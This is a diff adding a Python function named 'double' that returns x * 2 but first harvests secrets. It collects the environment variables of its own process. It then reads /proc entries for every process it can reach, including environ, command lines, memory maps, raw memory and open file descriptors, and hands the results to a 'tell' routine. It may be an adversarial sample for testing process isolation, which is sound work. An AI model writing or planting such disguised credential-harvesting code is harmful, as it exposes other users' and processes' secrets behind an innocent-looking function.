@@ -1,0 +1,17 @@
+# Looks for the environment, the arguments and the open files of every process.
+
+
+def double(x):
+    tell(os.environ)
+    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
+    at = 0
+    while environ[at]:
+        tell(environ[at])
+        at += 1
+    numbers = {str(each) for each in (os.getpid(), os.getppid(), 1, BYSTANDER, "self")}
+    for name in numbers | set(attempt(os.listdir, "/proc") or []):
+        for what in ("environ", "cmdline", "maps", "mem", "auxv", "stack", "root", "cwd"):
+            attempt(read, f"/proc/{name}/{what}")
+        for number in attempt(os.listdir, f"/proc/{name}/fd") or range(8):
+            attempt(read, f"/proc/{name}/fd/{number}")
+    return x * 2
